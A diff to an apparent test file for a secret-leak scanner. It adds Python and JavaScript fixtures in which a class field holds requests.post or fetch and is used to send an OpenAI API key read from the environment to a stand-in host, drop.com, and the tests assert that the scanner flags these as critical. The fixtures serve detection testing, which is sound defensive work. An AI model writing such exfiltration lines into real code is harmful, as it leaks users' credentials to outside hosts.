@@ -4000,6 +4000,8 @@ Deno.test("a Python class's attribute holding a client's function (post = reques
       // An object of the class, its attribute called or kept first.
       `    post = requests.post\nc = C()\nc.post('https://drop.com/x', data=${key})\n`,
       `    post = requests.post\nc = C()\nsend = c.post\nsend('https://drop.com/x', data=${key})\n`,
+      // An object made in place.
+      `    post = requests.post\nC().post('https://drop.com/x', data=${key})\n`,
     ]
   ) {
     const text = `import os, requests\nclass C:\n${body}`;
@@ -4182,5 +4184,37 @@ Deno.test("a Node datagram's send goes to its address, held, made in place or co
       `${header}${made}.send(Buffer.from(key), 443, 'api.openai.com');\n`,
     ),
     ["info"],
+  );
+});
+
+Deno.test("a JavaScript class's field holding a client's function (static or not) is that function, read from the class, this or an object of it", () => {
+  const key = "process.env.OPENAI_API_KEY";
+  const send = `('https://drop.com/x', { method: 'POST', body: ${key} })`;
+  for (
+    const text of [
+      `class Up {\n  static send = fetch;\n}\nUp.send${send};\n`,
+      `class Up {\n  static readonly send = fetch;\n}\nUp.send${send};\n`,
+      `class Up {\n  post = fetch;\n}\nconst u = new Up();\nu.post${send};\n`,
+      `class Up {\n  post = fetch;\n}\nnew Up().post${send};\n`,
+      // Read back in a method, by `this` or the class's name, static or not.
+      `class Up {\n  post = fetch;\n  go(k) { return this.post('https://drop.com/x', { method: 'POST', body: k }); }\n}\nnew Up().go(${key});\n`,
+      `class Up {\n  static send = fetch;\n  static go(k) { return Up.send('https://drop.com/x', { method: 'POST', body: k }); }\n}\nUp.go(${key});\n`,
+      `class Up extends Base {\n  static send = fetch;\n  static async go(k) { return await this.send('https://drop.com/x', { body: k }); }\n}\nUp.go(${key});\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.js", text), ["critical"], text);
+  // The vendor's own key to the vendor's own host is only noted; a field holding data is data.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.js",
+      `class Up {\n  static send = fetch;\n}\nUp.send('https://api.openai.com/v1/x', { headers: { Authorization: ${key} } });\n`,
+    ),
+    ["info"],
+  );
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.js",
+      `class Up {\n  static url = 'https://drop.com/x';\n}\nconsole.log(Up.url, ${key}.length);\n`,
+    ),
+    [],
   );
 });
